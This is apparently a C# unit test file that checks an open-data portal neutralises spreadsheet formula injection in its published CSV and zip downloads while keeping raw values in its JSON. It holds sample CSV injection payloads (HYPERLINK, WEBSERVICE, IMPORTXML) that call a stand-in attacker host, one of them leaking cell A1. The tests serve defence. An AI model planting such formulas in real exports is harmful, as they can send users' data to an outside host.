using System.Globalization;
using System.IO.Compression;
using System.Text.Json.Nodes;
using CsvHelper;
using Portal.OpenData;
using Portal.Pipeline;
using Portal.Tests.Pipeline;

namespace Portal.Tests.OpenData;

/// <summary>
/// A formula in the data reaches the downloads as text: spreadsheets open /data/*.csv, so a text cell that starts
/// a formula gains an apostrophe there and in the zip; numbers stay numbers, and the JSON keeps every value.
/// </summary>
public sealed class FormulaInjectionTests : IDisposable
{
    private const string Hyperlink = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Open\")";
    private const string WebService = "=WEBSERVICE(\"https://evil.example/\")";
    private const string ImportXml = "=IMPORTXML(\"https://evil.example/\",\"//a\")";

    private readonly TemporaryFolder _folder = new();

    public FormulaInjectionTests()
    {
        var data = _folder.Combine("data");
        Directory.CreateDirectory(data);
        foreach (var file in new[] { "cities.csv", "recommendations.csv" })
        {
            File.Copy(Path.Combine(RepositoryPaths.Fixture("minimal"), "data", file), Path.Combine(data, file));
        }

        // The description's tab is trimmed by the loader, which leaves "=1+1": the published value is what counts.
        File.WriteAllText(Path.Combine(data, "commitments.csv"), string.Join('\n',
            "id,city,title,description,recommendations,status,department,indicator,unit,baseline,baseline_year,target,target_year",
            $"homes,alpha,{Quoted(Hyperlink)},\"\t=1+1\",R1,in-progress,+SUM(1;2),-2+3,@SUM(A1),-12.5,2020,10,2030",
            $"web,alpha,{Quoted(WebService)},Plain text.,R1,planned,,,,,,,",
            $"xml,alpha,{Quoted(ImportXml)},Plain text.,R1,planned,,,,,,,") + "\n");
        var report = new SiteBuilder().Build(BuildOptionsFor.Fixture("minimal", Output) with { DataFolder = data });
        Assert.True(report.Succeeded, string.Join('\n', report.Diagnostics));
    }

    private string Output => _folder.Combine("output");

    [Fact]
    public void Should_Prefix_Every_Formula_In_A_Text_Cell_Of_The_Published_Csv_With_An_Apostrophe()
    {
        AssertNeutralised(File.ReadAllText(Path.Combine(Output, "data", "commitments.csv")));
    }

    [Fact]
    public void Should_Prefix_Every_Formula_In_A_Text_Cell_Of_The_Csv_In_The_Zip_With_An_Apostrophe()
    {
        using var archive = ZipFile.OpenRead(Path.Combine(Output, "data", "portal-data.zip"));
        using var reader = new StreamReader(archive.GetEntry(DataPaths.Relative(DataPaths.Csv("commitments")))!.Open());

        AssertNeutralised(reader.ReadToEnd());
    }

    [Fact]
    public void Should_Keep_Every_Value_As_It_Is_In_The_Json()
    {
        var records = JsonNode.Parse(File.ReadAllText(Path.Combine(Output, "api", "commitments.json")))!["commitments"]!.AsArray();
        var homes = records.Single(r => r!["id"]!.GetValue<string>() == "homes")!;

        Assert.Equal([Hyperlink, ImportXml, WebService], records.Select(r => r!["title"]!.GetValue<string>()).Order(StringComparer.Ordinal));
        Assert.Equal("=1+1", homes["description"]!.GetValue<string>());
        Assert.Equal("+SUM(1;2)", homes["department"]!.GetValue<string>());
        Assert.Equal(-12.5, homes["baseline"]!.GetValue<double>());
    }

    private static void AssertNeutralised(string csv)
    {
        var records = ReadRecords(csv);
        Assert.Equal("'" + Hyperlink, records["homes"]["title"]);
        Assert.Equal("'" + WebService, records["web"]["title"]);
        Assert.Equal("'" + ImportXml, records["xml"]["title"]);
        Assert.Equal("'=1+1", records["homes"]["description"]);
        Assert.Equal("'+SUM(1;2)", records["homes"]["department"]);
        Assert.Equal("'-2+3", records["homes"]["indicator"]);
        Assert.Equal("'@SUM(A1)", records["homes"]["unit"]);
        Assert.Equal("-12.5", records["homes"]["baseline"]);
        Assert.Equal("2020", records["homes"]["baseline_year"]);
        Assert.Equal("Plain text.", records["web"]["description"]);
    }

    /// <summary>The records of a CSV by id, each with its cells by column name, as a reader of the published file sees them.</summary>
    private static Dictionary<string, IDictionary<string, object>> ReadRecords(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        return reader.GetRecords<dynamic>().Cast<IDictionary<string, object>>().ToDictionary(r => (string)r["id"], StringComparer.Ordinal);
    }

    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";

    public void Dispose() => _folder.Dispose();
}
